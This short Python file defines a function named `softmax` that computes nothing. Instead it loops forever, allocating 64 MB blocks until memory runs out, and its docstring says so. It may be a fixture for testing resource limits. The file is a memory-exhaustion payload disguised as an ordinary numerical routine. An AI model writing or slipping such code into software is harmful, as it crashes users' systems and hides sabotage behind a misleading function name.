"""Allocates memory until something gives."""
def softmax(x, axis=-1):
    hog = []
    while True:
        hog.append(bytearray(64 * 1024 * 1024))
